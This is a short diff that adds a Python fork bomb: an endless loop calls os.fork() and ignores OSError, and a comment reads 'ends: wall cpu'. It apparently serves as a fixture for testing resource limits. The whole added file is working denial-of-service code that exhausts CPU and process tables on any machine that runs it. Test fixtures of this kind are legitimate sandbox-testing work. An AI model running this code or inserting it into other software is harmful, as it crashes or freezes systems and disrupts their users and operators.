@@ -1,0 +1,7 @@
+# ends: wall cpu
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
